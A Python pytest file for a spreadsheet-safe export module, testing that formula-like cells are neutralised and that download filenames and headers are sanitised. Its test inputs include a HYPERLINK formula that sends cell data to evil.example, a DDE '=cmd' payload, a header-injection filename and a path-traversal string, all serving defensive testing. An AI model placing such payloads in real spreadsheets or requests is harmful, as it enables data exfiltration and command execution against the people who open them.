"""Spreadsheet-safe exports: formula-like text is neutralised, everything else kept."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pandas as pd
import pytest

from core.exports import (
    csv_chunks,
    download_response,
    neutralise,
    neutralise_frame,
    safe_filename,
    write_csv,
    write_xlsx,
)

RISKY = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
SAFE = ["Ann", "", " =1+1", "a=b", "ann@example.com", "1+1", "'=already"]


@pytest.mark.parametrize("value", RISKY)
def test_neutralise_prefixes_formula_like_strings(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", SAFE)
def test_neutralise_leaves_ordinary_strings(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, None, True, date(2024, 3, 1), b"=1"])
def test_neutralise_leaves_non_strings(value):
    assert neutralise(value) is value


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": ["=1+1", "Ann", "@team", None],
            "score": [-5, 10, 0, 7],
            "ratio": [-0.5, 1.0, 2.5, None],
            "mixed": pd.Series(["-x", 3, "ok", -4], dtype=object),
            "text": pd.Series(["+1", "a", pd.NA, "\tb"], dtype="string"),
            "team": pd.Categorical(["=A", "B", "=A", "B"]),
            "when": pd.to_datetime(["2024-01-01"] * 4),
        }
    )


def test_neutralise_frame_is_vectorised_per_text_column_and_copies():
    original = frame()
    snapshot = original.copy()
    safe = neutralise_frame(original)
    pd.testing.assert_frame_equal(original, snapshot)  # The input is untouched.
    assert safe["name"].tolist()[:3] == ["'=1+1", "Ann", "'@team"]
    assert safe["name"].isna().tolist() == [False, False, False, True]
    assert safe["mixed"].tolist() == ["'-x", 3, "ok", -4]
    assert safe["text"].tolist()[:2] == ["'+1", "a"]
    assert safe["text"].tolist()[3] == "'\tb"
    assert safe["team"].tolist() == ["'=A", "B", "'=A", "B"]
    # Numbers and dates are untouched, dtype and all.
    pd.testing.assert_series_equal(safe["score"], original["score"])
    pd.testing.assert_series_equal(safe["ratio"], original["ratio"])
    pd.testing.assert_series_equal(safe["when"], original["when"])


def test_neutralise_frame_covers_headers_and_number_only_object_columns():
    data = pd.DataFrame(
        {"=evil": ["x"], "ids": pd.Series([1], dtype=object), "ok": ["y"]}
    )
    safe = neutralise_frame(data)
    assert list(safe.columns) == ["'=evil", "ids", "ok"]
    assert safe["ids"].tolist() == [1]


def test_write_csv_neutralises_and_keeps_numbers():
    buffer = io.BytesIO()
    write_csv(frame(), buffer)
    raw = buffer.getvalue()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM, so Excel reads UTF-8.
    assert b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["name", "score", "ratio", "mixed", "text", "team", "when"]
    assert rows[1][:5] == ["'=1+1", "-5", "-0.5", "'-x", "'+1"]
    assert rows[2][3] == "3"
    assert rows[4][3] == "-4"
    assert rows[4][4] == "'\tb"
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    # Only genuine numbers may start with "-".
    for cell in cells:
        if cell.startswith("-"):
            float(cell)


def test_write_csv_to_a_text_stream():
    buffer = io.StringIO()
    write_csv(pd.DataFrame({"a": ["=x"]}), buffer, bom=False)
    assert buffer.getvalue() == "a\r\n'=x\r\n"


def test_write_xlsx_neutralises_and_keeps_numbers():
    buffer = io.BytesIO()
    write_xlsx(frame(), buffer, sheet_name="Learners: Q1/Q2 [draft] and more words")
    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    sheet = workbook.active
    assert sheet.title == "Learners  Q1 Q2  draft  and mor"
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in types  # No cell is stored as a formula.
    assert values[1][:5] == ["'=1+1", -5, -0.5, "'-x", "'+1"]
    assert values[2][3] == 3
    assert values[4][3] == -4
    assert values[1][6].date() == date(2024, 1, 1)


def test_write_xlsx_copes_with_control_characters_and_time_zones():
    data = pd.DataFrame(
        {
            "text": ["a\x01b", "=x"],
            "at": pd.to_datetime(["2024-01-01 09:00"] * 2).tz_localize("UTC"),
        }
    )
    buffer = io.BytesIO()
    write_xlsx(data, buffer)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert sheet.title == "Export"
    assert [cell.value for cell in sheet["A"]] == ["text", "ab", "'=x"]
    assert sheet["B2"].value.hour == 9


def test_csv_chunks_give_the_same_bytes_as_one_write():
    frame = pd.DataFrame(
        {
            "Name": [f"=cmd{i}" if i % 7 == 0 else f"Learner {i}" for i in range(45)],
            "=HYPERLINK(1)": list(range(45)),
        }
    )
    whole = io.BytesIO()
    write_csv(frame, whole)
    chunks = list(csv_chunks(frame, chunk_rows=10))
    assert len(chunks) == 1 + 5  # the header, then five chunks of at most ten rows
    assert b"".join(chunks) == whole.getvalue()
    assert chunks[0].startswith("\ufeffName,'=HYPERLINK(1)".encode())


def test_csv_chunks_of_an_empty_frame_are_the_header_alone():
    frame = pd.DataFrame({"Name": [], "Score": []})
    assert b"".join(csv_chunks(frame)) == "\ufeffName,Score\r\n".encode()


# --- download_response ---------------------------------------------------------------

TEAM = pd.DataFrame(
    {"Name": ["Amara Okafor", "=HYPERLINK(1)"], "Courses completed": [3, 1]}
)


def test_csv_download_is_a_private_attachment_with_neutralised_cells():
    response = download_response(TEAM, filename="my-team-2025-03-01", fmt="csv")
    assert not response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="my-team-2025-03-01.csv"'
    )
    assert response["Cache-Control"] == "private, no-store"
    whole = io.BytesIO()
    write_csv(TEAM, whole)
    assert response.content == whole.getvalue()


def test_long_csv_download_is_streamed_with_the_same_bytes():
    frame = pd.DataFrame({"Name": [f"Learner {i}" for i in range(25)]})
    response = download_response(frame, filename="learners", fmt="csv", stream_rows=10)
    assert response.streaming
    assert response["Cache-Control"] == "private, no-store"
    whole = io.BytesIO()
    write_csv(frame, whole)
    assert b"".join(response.streaming_content) == whole.getvalue()


def test_xlsx_download_names_its_sheet_and_neutralises_cells():
    response = download_response(TEAM, filename="team", fmt="xlsx", sheet="My team")
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == 'attachment; filename="team.xlsx"'
    assert response["Cache-Control"] == "private, no-store"
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "My team"
    assert sheet["A3"].value == "'=HYPERLINK(1)"


def test_download_filename_cannot_break_out_of_the_header():
    response = download_response(
        TEAM, filename='report"; filename=evil.exe\r\nX-Injected: 1', fmt="csv"
    )
    disposition = response["Content-Disposition"]
    assert disposition == (
        'attachment; filename="report-filename-evil.exe-X-Injected-1.csv"'
    )
    assert "X-Injected" not in response


def test_unknown_download_format_is_refused():
    with pytest.raises(ValueError, match="Unknown download format 'pdf'"):
        download_response(TEAM, filename="team", fmt="pdf")


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("go-live-checklist-3-2025-03-01", "go-live-checklist-3-2025-03-01"),
        ("Équipe données", "quipe-donn-es"),
        ("../../etc/passwd", "etc-passwd"),
        ("", "download"),
        ('"";', "download"),
        ("x" * 300, "x" * 120),
    ],
)
def test_safe_filename_keeps_only_plain_characters(name, expected):
    assert safe_filename(name) == expected
